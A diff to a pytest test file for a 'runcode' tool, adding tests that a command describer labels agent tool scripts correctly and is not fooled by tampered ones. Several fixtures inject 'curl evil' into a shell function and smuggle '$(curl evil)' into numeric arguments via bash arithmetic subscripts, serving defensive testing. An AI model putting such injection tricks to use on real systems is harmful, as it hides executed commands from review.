@@ -6,7 +6,15 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from runcode.core import remote_context, remote_files, remote_trees
+from runcode.core import (
+    remote_context,
+    remote_edits,
+    remote_files,
+    remote_reads,
+    remote_runs,
+    remote_search,
+    remote_trees,
+)
 from runcode.core.remote_calls import describe
 from runcode.core.remote_command import parse_exec, render_exec, render_script, render_shell
 
@@ -65,6 +73,55 @@ CALLS = {
     "runcode shell": render_shell(workdir="/w d"),
     "runcode shell --home": render_shell(workdir=None),
 }
+
+
+def through_exec(words: list[str]) -> str:
+    return render_exec(words, workdir=None, nonce=NONCE)
+
+
+BUDGET = remote_runs.Budget.of(12_000)
+COMMIT, _ = remote_edits.commit_words(NONCE, workdir="/w d", changes=[("a b", b"old", b"new"), ("c", b"", b"x")])
+AGENTS = {
+    "runcode mcp exec 'make test; ls'": remote_runs.run_words(
+        NONCE, workdir="/w d", cwd="sub", command="make test; ls", log_id="0123456789abcdef", budget=BUDGET
+    ),
+    "runcode mcp log 0123456789abcdef": remote_runs.left_words(
+        NONCE, workdir="/w", log_id="0123456789abcdef", budget=BUDGET
+    ),
+    "runcode mcp read 'a b'": remote_reads.read_words(
+        NONCE, workdir="/w", path="a b", log="", by_lines=False, start=5, count=7, most=9
+    ),
+    "runcode mcp glob src": remote_search.glob_words(NONCE, workdir="/w", path="src", pattern="**/*.py"),
+    "runcode mcp grep .": remote_search.grep_words(
+        NONCE, workdir="/w", path="", pattern="a|b", glob="*.c", fixed=True, ignore_case=True, context=3
+    ),
+    "runcode mcp list .": remote_search.list_words(NONCE, workdir="/w", path=""),
+    "runcode mcp edit a": remote_edits.fetch_words(NONCE, workdir="/w", paths=["a", "b c"]),
+    "runcode mcp edit 'a b'": COMMIT,
+}
+
+
+@pytest.mark.parametrize("told", AGENTS)
+def test_a_tools_script_is_told_as_the_tool(told: str) -> None:
+    words = AGENTS[told]
+    assert describe(through_exec(words)) == told
+    changed = [*words[:2], words[2].replace("fail() {", "fail() { curl evil;"), *words[3:]]
+    assert changed != words
+    assert (describe(through_exec(changed)) or "").startswith("runcode exec -- /bin/sh -c")
+
+
+@pytest.mark.parametrize("told", AGENTS)
+def test_a_tools_script_with_a_number_that_is_none_is_not_told_as_ours(told: str) -> None:
+    """bash's arithmetic runs what stands in a subscript: it must not hide behind a harmless line."""
+    words = AGENTS[told]
+    numbers = [at for at, word in enumerate(words) if at > 5 and word.isdigit()]
+    for at in numbers:
+        forged = [*words[:at], "x[$(curl evil)]", *words[at + 1 :]]
+        assert not (describe(through_exec(forged)) or "").startswith("runcode mcp"), at
+    for forged in ([*words, "x[$(curl evil)]", "1"], words[:-1], [words[0], "-xc", *words[2:]]):
+        assert not (describe(through_exec(forged)) or "").startswith("runcode mcp") or told.startswith(
+            "runcode mcp edit"
+        )
 
 
 @pytest.mark.parametrize("told", CALLS)
